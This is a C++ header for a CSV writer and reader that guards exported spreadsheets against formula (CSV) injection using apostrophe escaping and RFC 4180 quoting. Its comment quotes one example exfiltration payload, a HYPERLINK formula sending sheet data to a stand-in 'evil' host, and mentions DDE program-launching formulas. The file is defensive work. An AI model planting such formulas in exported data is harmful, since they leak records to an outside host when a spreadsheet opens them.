// CSV files and spreadsheet cells: the one writer and reader every export and import uses.
//
// Why a helper: officers open exports in Excel or LibreOffice Calc, which evaluate a cell that
// begins with `=`, `+`, `-` or `@` (and, after a tab or carriage return, whatever follows) as a
// formula. A value typed by anyone into a record (an agency's name, a citizen's address) would
// then run in the officer's spreadsheet: `=HYPERLINK("https://evil/?"&A1, "Bấm vào đây")` leaks
// the sheet, DDE formulas start programs (CSV injection, OWASP). Every cell of every CSV the
// platform writes goes through CsvField() (or WriteCsvRow()), and every CSV it reads goes through
// ParseCsv(), so that a value exported and imported again comes back unchanged.
//
// Rules (OWASP "CSV Injection"):
//  - NeutralizeCell(v): a value whose first character is one of  = + - @ TAB CR  or the escape
//    character ' itself gets a leading apostrophe. Spreadsheets show a leading apostrophe as
//    "this is text" and do not evaluate the cell. Escaping the apostrophe too keeps the mapping
//    reversible: "'=x" is written "''=x".
//  - RestoreCell(c) undoes it: one leading apostrophe is removed when the next character is one
//    of  = + - @ TAB CR '. An apostrophe before anything else is data ("'abc" stays as it is).
//    So a phone "+84 296 3852 000" or a name "-" survives export -> import, and a cell an
//    officer typed as '+84… in Excel to keep it text is read as +84….
//  - CsvField(v) = NeutralizeCell(v) quoted per RFC 4180 when it holds , " CR or LF (inner
//    quotes doubled).
//
// An .xlsx writer (none exists yet) must apply the same rule: write every value as an inline or
// shared *string* cell (t="inlineStr" / t="s"), never as a formula or a number parsed from
// text, and still pass it through NeutralizeCell(), because a user who copies the cell or saves
// the sheet as CSV re-exposes it. Its reader must apply RestoreCell() to string cells.
//
// Pure functions; thread-safe.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace cqdt {

// True when a spreadsheet could read `value` as a formula (see the rules above).
bool NeedsNeutralizing(std::string_view value);
// The cell text to write for `value`: prefixed with ' when NeedsNeutralizing or when it starts
// with ' itself.
std::string NeutralizeCell(std::string_view value);
// The value a cell written by NeutralizeCell stands for.
std::string RestoreCell(std::string_view cell);

// One CSV field: NeutralizeCell, then RFC 4180 quoting when needed.
std::string CsvField(std::string_view value);
// Appends one record (fields separated by commas) and CRLF to `out`.
void WriteCsvRow(std::string& out, const std::vector<std::string>& fields);

// One parsed record and the 1-based line of the file on which it starts (a quoted field may
// span lines, so records and lines can differ). Fields are already passed through RestoreCell.
struct CsvRecord {
  int line = 0;
  std::vector<std::string> fields;
};

// Splits RFC 4180 text (LF or CRLF line ends) into records, skipping blank lines. Returns false
// on an unterminated quote. Field values are restored with RestoreCell. A leading UTF-8 BOM is
// the caller's to strip.
bool ParseCsv(std::string_view text, std::vector<CsvRecord>& records);

}  // namespace cqdt
